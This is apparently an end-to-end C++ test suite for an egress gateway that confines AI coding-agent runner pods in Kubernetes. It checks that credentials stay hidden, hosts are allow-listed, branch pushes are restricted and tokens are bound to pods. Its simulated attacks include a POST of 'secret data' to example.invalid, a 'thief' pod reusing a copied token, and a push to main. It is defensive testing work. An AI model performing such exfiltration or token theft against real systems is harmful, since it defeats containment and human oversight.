// The egress gateway end to end (issue 15) on the node tier, with real runner pods against
// the test bed of scripts/cluster/stack.sh in its default egress mode: runner pods reach
// only droid-egress (and DNS); it holds the LLM key and the git password.
//
//   1. a session through the gateway succeeds (LLM and git: clone, push of its branch);
//      its Pod object mounts no Secret with the gateway key or a git password and carries
//      only its token, inside the proxy URL; its grant lists exactly the policy's
//      destinations and its push branch while it runs, and is gone once it has finished;
//      the gateway's audit log shows its LLM, git and telemetry requests allowed;
//   2. from inside a running runner pod, with its own token: a host not on the list is
//      refused (403; in the gateway's audit log and, with the gateway's events, as an
//      event on the session), a push to another branch is refused while the session's
//      branch is allowed, SSE streams through event by event, the LLM key is injected;
//   3. a token copied into another pod (labelled like a runner pod, so that the network
//      lets it in) is refused for its address; a finished session's token is refused;
//   4. Prometheus scrapes the gateway's metrics (droid_egress_requests_total); the
//      collector receives its audit records as OTEL log records.
//
// Needs what session_e2e_test needs (KUBECONFIG, DROID_STACK_INFO or
// $DROID_CLUSTER_DIR/stack/stack.json, curl and git on PATH). Skipped, saying so, when the
// stack runs in direct mode (DROID_STACK_EGRESS=0).
#include <gtest/gtest.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <optional>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "kubectl.h"
#include "process/subprocess.h"

namespace droid::e2e {
namespace {

using json = nlohmann::json;
using namespace std::chrono_literals;
namespace fs = std::filesystem;

const std::set<std::string> kFinal = {"Succeeded", "Failed", "Denied", "TimedOut", "Cancelled", "AwaitingApproval"};

// Run inside a pod: one HTTP request through the proxy of $http_proxy (or argv[4]),
// printing {"status", "body", "events": [[seconds since start, line]...]} (the lines of
// an event stream with their arrival times).
constexpr const char* kRequest = R"PY(
import json, sys, time, urllib.request, urllib.error
url, method, body = sys.argv[1], sys.argv[2], sys.argv[3]
handlers = [urllib.request.ProxyHandler({"http": sys.argv[4]})] if len(sys.argv) > 4 else []
opener = urllib.request.build_opener(*handlers)
req = urllib.request.Request(url, data=body.encode() if body else None, method=method,
                             headers={"Content-Type": "application/json", "Authorization": "Bearer from-the-runner"})
start = time.monotonic()
out = {"status": 0, "body": "", "events": []}
try:
    r = opener.open(req, timeout=60)
    out["status"] = r.status
    if r.headers.get("Content-Type", "").startswith("text/event-stream"):
        for line in r:
            line = line.decode().rstrip("\r\n")
            if line:
                out["events"].append([time.monotonic() - start, line])
    else:
        out["body"] = r.read().decode(errors="replace")[:4000]
except urllib.error.HTTPError as e:
    out["status"] = e.code
    out["body"] = e.read().decode(errors="replace")[:4000]
except Exception as e:
    out["body"] = repr(e)
print(json.dumps(out))
)PY";

std::string getenv_or(const char* name, const std::string& fallback) {
  // NOLINTNEXTLINE(concurrency-mt-unsafe): read before any thread starts; nothing calls setenv
  const char* v = std::getenv(name);
  return v != nullptr && *v != '\0' ? std::string(v) : fallback;
}

std::string read_file(const std::string& path) {
  std::ifstream in(path);
  std::stringstream s;
  s << in.rdbuf();
  return s.str();
}

std::string trim(std::string s) {
  while (!s.empty() && (s.back() == '\n' || s.back() == '\r' || s.back() == ' ')) s.pop_back();
  return s;
}

json turn(const std::string& name, const std::string& match, const json& response) {
  return {{"name", name}, {"match", {{"lastMessageContains", match}}}, {"response", response}};
}

class Egress : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    kubectl_.emplace(Kubectl::FromEnvironment());
    const std::string info_file =
        getenv_or("DROID_STACK_INFO",
                  getenv_or("DROID_CLUSTER_DIR", getenv_or("HOME", "/root") + "/.cache/droid-operator/cluster") +
                      "/stack/stack.json");
    ASSERT_TRUE(fs::exists(info_file)) << info_file << " is missing: run scripts/cluster/stack.sh up";
    stack_ = json::parse(read_file(info_file));
    if (!stack_.value("egress", false)) return;
    tmp_ = fs::temp_directory_path() / ("droid-e2e-egress-" + std::to_string(getpid()));
    fs::create_directories(tmp_);
    fs::permissions(tmp_, fs::perms::owner_all);
    {
      std::ofstream header(tmp_ / "auth-header");
      header << "Authorization: Bearer " << trim(read_file(stack_.value("gatewayKeyFile", ""))) << "\n";
    }
    suffix_ = std::to_string(getpid());
    namespace_ = "droid-e2e-egress-" + suffix_;
    auto created = kubectl_->Run({"create", "namespace", namespace_});
    ASSERT_TRUE(created.ok()) << created.describe();
    ASSERT_TRUE(kubectl_->WaitForDefaultServiceAccount(namespace_)) << "no default ServiceAccount in " << namespace_;
  }

  static void TearDownTestSuite() {
    if (kubectl_ && !namespace_.empty()) kubectl_->Run({"delete", "namespace", namespace_, "--wait=false"});
    std::error_code ec;
    if (!tmp_.empty()) fs::remove_all(tmp_, ec);
  }

  void SetUp() override {
    if (!stack_.value("egress", false))
      GTEST_SKIP() << "the stack runs in direct mode (DROID_STACK_EGRESS=0): no egress gateway to test";
  }

  static std::string op_ns() { return stack_.value("operatorNamespace", "droid-system"); }
  static std::string bed_ns() { return stack_.value("testbedNamespace", "droid-testbed"); }
  static std::string llm_url() {
    return "http://scripted-gateway." + bed_ns() + ".svc.cluster.local:8080/v1/chat/completions";
  }

  static process::Result curl(const std::vector<std::string>& args, const std::string& input = {}) {
    std::vector<std::string> argv = {"curl", "-sS", "--max-time", "30"};
    argv.insert(argv.end(), args.begin(), args.end());
    return process::run(argv, input, 60s);
  }

  static void set_script(const json& turns) {
    auto r =
        curl({"-f", "-X", "PUT", "-H", "@" + (tmp_ / "auth-header").string(), "-H", "Content-Type: application/json",
              "--data-binary", "@-", stack_.value("gatewayURL", "") + "/_gateway/script"},
             json{{"turns", turns}}.dump());
    ASSERT_TRUE(r.ok()) << r.describe();
  }

  static json session(const std::string& name, const std::string& prompt, const json& extra = json::object()) {
    json spec = {{"prompt", prompt},
                 {"repository", {{"url", stack_.value("gitRepositoryURL", "")}, {"ref", "main"}}},
                 {"model", stack_.value("model", "")},
                 {"autonomyLevel", "high"},
                 {"timeoutSeconds", 300}};
    spec.merge_patch(extra);
    return {{"apiVersion", "droid.dev/v1alpha1"},
            {"kind", "DroidSession"},
            {"metadata", {{"name", name}, {"namespace", namespace_}}},
            {"spec", spec}};
  }

  static process::Result apply(const json& obj) {
    return kubectl_->Run({"apply", "-n", namespace_, "-f", "-"}, obj.dump());
  }

  static std::optional<json> get(const std::string& kind, const std::string& name, const std::string& ns = "") {
    auto r = kubectl_->Run({"get", kind, name, "-n", ns.empty() ? namespace_ : ns, "-o", "json"});
    if (!r.ok()) return std::nullopt;
    return json::parse(r.out, nullptr, false);
  }

  static std::string phase_of(const json& s) { return s.contains("status") ? s["status"].value("phase", "") : ""; }

  static json wait_phase(const std::string& name, const std::set<std::string>& phases,
                         std::chrono::seconds within = 240s) {
    const auto deadline = std::chrono::steady_clock::now() + within;
    json last = json::object();
    while (std::chrono::steady_clock::now() < deadline) {
      if (auto s = get("droidsession", name)) {
        last = *s;
        if (phases.contains(phase_of(last))) return last;
      }
      std::this_thread::sleep_for(1s);
    }
    return last;
  }

  static std::string diagnose(const std::string& name) {
    std::string out = "\n--- session " + name + " ---\n" +
                      kubectl_->Run({"get", "droidsession", name, "-n", namespace_, "-o", "yaml"}).out;
    auto pods = kubectl_->Run({"get", "pods", "-n", namespace_, "-l", "droid.dev/session=" + name, "-o", "name"});
    std::istringstream lines(pods.out);
    for (std::string pod; std::getline(lines, pod);)
      out += "\n--- " + pod + " log (tail) ---\n" + kubectl_->Run({"logs", "-n", namespace_, pod, "--tail=40"}).out;
    out += "\n--- egress gateway audit (tail) ---\n";
    for (const auto& a : audit()) out += a.dump() + "\n";
    return out;
  }

  // The gateway's audit lines (every replica's log).
  static std::vector<json> audit() {
    auto r = kubectl_->Run(
        {"logs", "-n", op_ns(), "-l", "app.kubernetes.io/name=droid-egress", "--tail=-1", "--max-log-requests=10"}, {},
        60s);
    std::vector<json> out;
    std::istringstream lines(r.out);
    for (std::string line; std::getline(lines, line);) {
      json j = json::parse(line, nullptr, false);
      if (j.is_object() && j.value("audit", "") == "egress") out.push_back(std::move(j));
    }
    return out;
  }

  // The audit lines of session ns/name that satisfy `pred`, polled until there is one.
  template <typename Pred>
  static std::vector<json> audit_of(const std::string& session, Pred pred, std::chrono::seconds within = 30s) {
    const auto deadline = std::chrono::steady_clock::now() + within;
    std::vector<json> out;
    do {
      out.clear();
      for (auto& a : audit())
        if (a.value("session", "") == session && pred(a)) out.push_back(std::move(a));
      if (!out.empty()) return out;
      std::this_thread::sleep_for(1s);
    } while (std::chrono::steady_clock::now() < deadline);
    return out;
  }

  // One request through the proxy from inside `pod` (its container's environment has the
  // proxy and token; `proxy` overrides it).
  static json request_from(const std::string& pod, const std::string& url, const std::string& method,
                           const std::string& body, const std::string& proxy = "") {
    std::vector<std::string> args = {"exec", "-n", namespace_, pod, "--", "python3", "-c", kRequest, url, method, body};
    if (!proxy.empty()) args.push_back(proxy);
    auto r = kubectl_->Run(args, {}, 120s);
    EXPECT_TRUE(r.ok()) << r.describe();
    return json::parse(trim(r.out), nullptr, false);
  }

  static std::string env_of(const json& pod, const std::string& name) {
    for (const auto& e : pod["spec"]["containers"][0].value("env", json::array()))
      if (e.value("name", "") == name) return e.value("value", "");
    return "";
  }

  // A runner kept waiting for the gateway's answer (a turn that answers after minutes).
  static std::string hold(const std::string& name, const std::string& mark, const json& other_turns = json::array()) {
    json slow = turn("hold", mark, {{"text", "done"}, {"usage", {{"inputTokens", 1}, {"outputTokens", 1}}}});
    slow["delayMs"] = 200000;
    slow["repeat"] = true;
    json turns = other_turns;
    turns.push_back(slow);
    EXPECT_NO_FATAL_FAILURE(set_script(turns));
    EXPECT_TRUE(
        apply(session(name, mark + ": wait.", {{"output", {{"pushBranch", "droid/" + name + "-" + suffix_}}}})).ok());
    const json s = wait_phase(name, {"Running"}, 120s);
    EXPECT_EQ(phase_of(s), "Running") << diagnose(name);
    const std::string pod = s["status"].value("podName", "");
    auto ready = kubectl_->Run(
        {"wait", "-n", namespace_, "--for=jsonpath={.status.phase}=Running", "--timeout=60s", "pod/" + pod}, {}, 90s);
    EXPECT_TRUE(ready.ok()) << ready.describe();
    return pod;
  }

  static std::optional<double> prometheus(const std::string& query) {
    auto r = curl({"-f", stack_.value("prometheusURL", "") + "/api/v1/query", "--data-urlencode", "query=" + query});
    if (!r.ok()) return std::nullopt;
    const json j = json::parse(r.out, nullptr, false);
    if (!j.is_object() || j["data"]["result"].empty()) return std::nullopt;
    return std::stod(j["data"]["result"][0]["value"][1].get<std::string>());
  }

  static inline std::optional<Kubectl> kubectl_;
  static inline json stack_;
  static inline fs::path tmp_;
  static inline std::string suffix_;
  static inline std::string namespace_;
};

TEST_F(Egress, ASessionThroughTheGatewayHoldsNoCredentialAndPushesItsBranch) {
  const std::string mark = "E2E-EG1-" + suffix_;
  const std::string branch = "droid/e2e-egress-" + suffix_;
  // The demo's fix: read, edit, test; the runner then commits and pushes through the gateway.
  ASSERT_NO_FATAL_FAILURE(set_script(json::array(
      {turn("edit", mark,
            {{"toolCalls",
              {{{"id", "c1"},
                {"name", "edit"},
                {"arguments", {{"path", "calc.py"}, {"old_string", "return a - b"}, {"new_string", "return a + b"}}}}}},
             {"usage", {{"inputTokens", 100}, {"outputTokens", 10}}}}),
       turn("done", "", {{"text", "Fixed calc.add."}, {"usage", {{"inputTokens", 120}, {"outputTokens", 5}}}})})));
  const std::string name = "through-egress";
  ASSERT_TRUE(apply(session(name, mark + ": fix calc.add.", {{"output", {{"pushBranch", branch}}}})).ok());

  // The Pod object: no Secret holding a credential, the token only inside the proxy URL.
  std::optional<json> pod;
  for (int i = 0; i < 120 && !pod; ++i) {
    if (auto s = get("droidsession", name); s && !s->value("status", json::object()).value("podName", "").empty())
      pod = get("pod", (*s)["status"].value("podName", ""));
    if (!pod) std::this_thread::sleep_for(1s);
  }
  ASSERT_TRUE(pod.has_value()) << diagnose(name);
  const std::string key = trim(read_file(stack_.value("gatewayKeyFile", "")));
  const std::string git_url = stack_.value("gitURL", "");
  const std::string git_password =
      git_url.substr(git_url.find(':', 7) + 1, git_url.find('@') - git_url.find(':', 7) - 1);
  ASSERT_FALSE(key.empty());
  ASSERT_GE(git_password.size(), 8U);
  for (const auto& v : (*pod)["spec"]["volumes"]) {
    if (!v.contains("secret")) continue;
    const std::string secret = v["secret"].value("secretName", "");
    EXPECT_EQ(secret, name + "-approval") << "the runner pod mounts Secret " << secret;
    // What the Secret holds (read here as admin): neither the key nor the password.
    auto data = get("secret", secret);
    ASSERT_TRUE(data.has_value());
    const json secret_data = data->value("data", json::object());  // not a temporary: items() refers to it
    for (const auto& [k, b64] : secret_data.items()) {
      auto decoded = process::run({"base64", "-d"}, b64.get<std::string>());
      EXPECT_EQ(decoded.out.find(key), std::string::npos) << secret << "/" << k << " holds the gateway key";
      EXPECT_EQ(decoded.out.find(git_password), std::string::npos) << secret << "/" << k << " holds the git password";
    }
  }
  const std::string pod_text = pod->dump();
  EXPECT_EQ(pod_text.find(key), std::string::npos) << "the gateway key is in the Pod object";
  EXPECT_EQ(pod_text.find(git_password), std::string::npos) << "the git password is in the Pod object";
  EXPECT_EQ(pod_text.find("git-credentials"), std::string::npos);
  const std::string proxy = env_of(*pod, "HTTPS_PROXY");
  EXPECT_EQ(proxy.rfind("http://droid:", 0), 0U) << proxy;
  EXPECT_NE(proxy.find("@" + stack_.value("egressGateway", "")), std::string::npos) << proxy;
  EXPECT_EQ(env_of(*pod, "http_proxy"), proxy);
  EXPECT_EQ(env_of(*pod, "NO_PROXY"), "");
  const std::string token = proxy.substr(13, proxy.find('@') - 13);
  EXPECT_EQ(token.size(), 43U) << "base64url of an HMAC-SHA256";

  // Its grant, while it runs: exactly the policy's destinations and its push branch.
  const std::string uid = (*pod)["metadata"]["ownerReferences"][0].value("uid", "");
  if (auto grant_cm = get("configmap", "droid-egress-" + uid, op_ns())) {
    const json grant = json::parse((*grant_cm)["data"].value("grant.json", "{}"));
    EXPECT_EQ(grant["session"]["name"], name);
    EXPECT_EQ(grant["podName"], (*pod)["metadata"]["name"]);
    EXPECT_EQ(grant["pushBranch"], branch);
    std::set<std::string> names;
    for (const auto& d : grant["destinations"]) names.insert(d.value("name", ""));
    EXPECT_EQ(names, (std::set<std::string>{"gateway-scripted", "telemetry", "git"})) << grant.dump(2);
  }  // (a fast session may have finished already: its grant is then gone, checked below)

  const json s = wait_phase(name, kFinal);
  ASSERT_EQ(phase_of(s), "Succeeded") << diagnose(name);
  EXPECT_EQ(s["status"]["result"].value("branch", ""), branch);
  // The branch is on the git server with the fix.
  auto remote = process::run({"git", "ls-remote", git_url + "/sample.git", "refs/heads/" + branch});
  ASSERT_TRUE(remote.ok()) << remote.describe();
  EXPECT_NE(remote.out.find(s["status"]["result"].value("commit", "-")), std::string::npos) << remote.out;

  // The gateway forwarded the LLM calls, the clone and the push, and the telemetry.
  const std::string id = namespace_ + "/" + name;
  const auto allowed = [&](const std::string& destination, const std::string& path_part) {
    return audit_of(id, [&](const json& a) {
      return a.value("decision", "") == "allowed" && a.value("destination", "") == destination &&
             a.value("path", "").find(path_part) != std::string::npos && a.value("status", 0) < 400;
    });
  };
  EXPECT_FALSE(allowed("gateway-scripted", "/v1/chat/completions").empty()) << diagnose(name);
  EXPECT_FALSE(allowed("git", "/sample.git/git-upload-pack").empty()) << diagnose(name);
  EXPECT_FALSE(allowed("git", "/sample.git/git-receive-pack").empty()) << diagnose(name);
  EXPECT_FALSE(allowed("telemetry", "/v1/").empty()) << diagnose(name);

  // The same audit records as OTEL log records at the test bed's collector (the chart's
  // egress.otlpEndpoint), batched every 2 s: the receive-pack among them.
  bool exported = false;
  for (int i = 0; i < 30 && !exported; ++i) {
    std::istringstream telemetry(read_file(stack_.value("telemetryFile", "")));
    for (std::string line; !exported && std::getline(telemetry, line);)
      exported = line.find("droid.egress.audit") != std::string::npos &&
                 line.find("\"" + id + "\"") != std::string::npos && line.find("git-receive-pack") != std::string::npos;
    if (!exported) std::this_thread::sleep_for(1s);
  }
  EXPECT_TRUE(exported) << "no droid.egress.audit log record of " << id << " at the collector";

  // Finished: its grant is deleted.
  bool gone = false;
  for (int i = 0; i < 30 && !gone; ++i) {
    gone = !get("configmap", "droid-egress-" + uid, op_ns()).has_value();
    if (!gone) std::this_thread::sleep_for(1s);
  }
  EXPECT_TRUE(gone) << "the finished session's grant is still there";
}

TEST_F(Egress, InsideARunnerPodOnlyTheGrantIsReachable) {
  const std::string mark = "E2E-EG2-" + suffix_;
  const std::string sse_mark = "E2E-SSE-" + suffix_;
  // An answer streamed in 8-byte pieces, 150 ms apart.
  json sse = turn("sse", sse_mark,
                  {{"text", "one two three four five six seven eight"},
                   {"chunkSize", 8},
                   {"chunkDelayMs", 150},
                   {"usage", {{"inputTokens", 3}, {"outputTokens", 8}}}});
  sse["repeat"] = true;
  const std::string name = "held-egress";
  const std::string pod = hold(name, mark, json::array({sse}));
  ASSERT_FALSE(HasFailure());
  const std::string id = namespace_ + "/" + name;

  // The LLM gateway through the egress gateway: the runner sends no key (a wrong one,
  // stripped), the gateway adds the real one; the answer streams event by event.
  const json body = {{"model", stack_.value("model", "")},
                     {"stream", true},
                     {"messages", {{{"role", "user"}, {"content", sse_mark + ": stream"}}}}};
  const json streamed = request_from(pod, llm_url(), "POST", body.dump());
  ASSERT_EQ(streamed.value("status", 0), 200) << streamed.dump() << diagnose(name);
  const json& events = streamed["events"];
  ASSERT_GE(events.size(), 4U) << streamed.dump();
  EXPECT_EQ(events.back()[1], "data: [DONE]");
  const double first = events.front()[0].get<double>();
  const double last = events.back()[0].get<double>();
  // Five or more 150 ms pauses between the events: had the gateway buffered the answer,
  // every event would arrive at once at the end.
  EXPECT_GT(last - first, 0.6) << "the events arrived together: " << streamed.dump();

  // A host not on the list: refused with 403, audited, and an event on the session.
  const json elsewhere = request_from(pod, "http://example.invalid/upload", "POST", "secret data");
  EXPECT_EQ(elsewhere.value("status", 0), 403) << elsewhere.dump();
  const auto refused = audit_of(id, [](const json& a) {
    return a.value("decision", "") == "denied" && a.value("host", "") == "example.invalid";
  });
  ASSERT_FALSE(refused.empty()) << "no audit line for the refused host" << diagnose(name);
  EXPECT_EQ(refused.front().value("status", 0), 403);
  // Another service of the cluster that the policy does not name: the collector's gRPC port.
  const json grpc = request_from(pod, "http://otel-collector." + bed_ns() + ".svc.cluster.local:4317/", "GET", "");
  EXPECT_EQ(grpc.value("status", 0), 403) << grpc.dump();
  // The event (the gateway records refusals on the session, rate-limited).
  bool event = false;
  for (int i = 0; i < 30 && !event; ++i) {
    auto r = kubectl_->Run({"get", "events.events.k8s.io", "-n", namespace_, "-o", "json"});
    if (r.ok())
      for (const auto& e : json::parse(r.out).value("items", json::array()))
        if (e["regarding"].value("name", "") == name &&
            e.value("note", "").find("example.invalid") != std::string::npos)
          event = true;
    if (!event) std::this_thread::sleep_for(1s);
  }
  EXPECT_TRUE(event) << "no event on the session for the refused host";

  // git from inside the pod, through the gateway (which adds the password): clone, a push
  // to another branch refused, the session's own branch allowed.
  const std::string repo = stack_.value("gitRepositoryURL", "");
  const std::string script =
      "set -e; cd /tmp; rm -rf r; git clone -q \"$0\" r; cd r; git -c user.name=t -c user.email=t@e "
      "commit -q --allow-empty -m e2e; if git push -q origin HEAD:refs/heads/main 2>err; then echo MAIN-PUSHED; "
      "else echo MAIN-REFUSED; fi; git push -q origin HEAD:refs/heads/droid/" +
      name + "-" + suffix_ + " && echo OWN-PUSHED";
  auto git = kubectl_->Run({"exec", "-n", namespace_, pod, "--", "sh", "-c", script, repo}, {}, 120s);
  EXPECT_NE(git.out.find("MAIN-REFUSED"), std::string::npos) << git.describe();
  EXPECT_NE(git.out.find("OWN-PUSHED"), std::string::npos) << git.describe();
  const auto push_refused = audit_of(id, [](const json& a) {
    return a.value("decision", "") == "denied" && a.value("path", "").find("git-receive-pack") != std::string::npos;
  });
  EXPECT_FALSE(push_refused.empty()) << "no audit line for the refused push";
  auto main_ref = process::run({"git", "ls-remote", stack_.value("gitURL", "") + "/sample.git", "refs/heads/main"});
  auto own_ref = process::run(
      {"git", "ls-remote", stack_.value("gitURL", "") + "/sample.git", "refs/heads/droid/" + name + "-" + suffix_});
  EXPECT_FALSE(own_ref.out.empty()) << own_ref.describe();
  EXPECT_EQ(main_ref.out.find(trim(own_ref.out).substr(0, 40)), std::string::npos) << "main moved";

  // The token copied into another pod (labelled like a runner pod, so the network lets it in).
  const auto runner_pod = get("pod", pod);
  ASSERT_TRUE(runner_pod.has_value());
  const std::string proxy = env_of(*runner_pod, "HTTP_PROXY");
  const json thief = {
      {"apiVersion", "v1"},
      {"kind", "Pod"},
      {"metadata",
       {{"name", "thief"},
        {"namespace", namespace_},
        {"labels", {{"app.kubernetes.io/managed-by", "droid-operator"}, {"app.kubernetes.io/component", "runner"}}}}},
      {"spec",
       {{"terminationGracePeriodSeconds", 1},
        {"automountServiceAccountToken", false},
        {"securityContext",
         {{"runAsNonRoot", true}, {"runAsUser", 65532}, {"seccompProfile", {{"type", "RuntimeDefault"}}}}},
        {"containers",
         {{{"name", "main"},
           {"image", (*runner_pod)["spec"]["containers"][0].value("image", "")},
           {"imagePullPolicy", "Never"},
           {"command", json::array({"sleep", "3600"})},
           {"securityContext",
            {{"allowPrivilegeEscalation", false}, {"capabilities", {{"drop", json::array({"ALL"})}}}}}}}}}}};
  ASSERT_TRUE(apply(thief).ok());
  auto thief_ready =
      kubectl_->Run({"wait", "-n", namespace_, "--for=condition=Ready", "--timeout=120s", "pod/thief"}, {}, 150s);
  ASSERT_TRUE(thief_ready.ok()) << thief_ready.describe();
  const json copied = request_from("thief", llm_url(), "POST", body.dump(), proxy);
  EXPECT_EQ(copied.value("status", 0), 403) << copied.dump();
  const auto wrong_source = audit_of(id, [](const json& a) {
    return a.value("decision", "") == "denied" && a.value("reason", "").find("another address") != std::string::npos;
  });
  EXPECT_FALSE(wrong_source.empty()) << "no audit line for the copied token" << diagnose(name);

  // The finished session of the first test: its token is refused (grant deleted).
  if (auto finished = get("pod", "through-egress-runner")) {
    const std::string finished_proxy = env_of(*finished, "HTTP_PROXY");
    const json late = request_from("thief", llm_url(), "POST", body.dump(), finished_proxy);
    EXPECT_EQ(late.value("status", 0), 403) << late.dump();
    const auto over = audit_of(namespace_ + "/through-egress", [](const json& a) {
      return a.value("decision", "") == "denied" && a.value("reason", "").find("another address") == std::string::npos;
    });
    const auto unknown = [&] {
      for (const auto& a : audit())
        if (a.value("decision", "") == "denied" && a.value("session", "").empty() &&
            a.value("reason", "").find("unknown session token") != std::string::npos)
          return true;
      return false;
    };
    EXPECT_TRUE(!over.empty() || unknown()) << "the finished session's token was not refused as finished";
  } else {
    ADD_FAILURE() << "the pod of the finished session through-egress is gone: run the whole suite";
  }

  kubectl_->Run({"patch", "droidsession", name, "-n", namespace_, "--type=merge", "-p", R"({"spec":{"cancel":true}})"});
  kubectl_->Run({"delete", "pod", "thief", "-n", namespace_, "--wait=false"});
}

TEST_F(Egress, PrometheusScrapesTheGateway) {
  std::optional<double> requests;
  for (int i = 0; i < 60 && !(requests && *requests > 0); ++i) {
    requests = prometheus("sum(droid_egress_requests_total)");
    if (!(requests && *requests > 0)) std::this_thread::sleep_for(1s);
  }
  ASSERT_TRUE(requests.has_value()) << "no droid_egress_requests_total in Prometheus";
  EXPECT_GT(*requests, 0);
  const auto up = prometheus("sum(up{job=\"droid-egress\"})");
  ASSERT_TRUE(up.has_value());
  EXPECT_EQ(*up, 2) << "both gateway replicas are scraped";
}

}  // namespace
}  // namespace droid::e2e
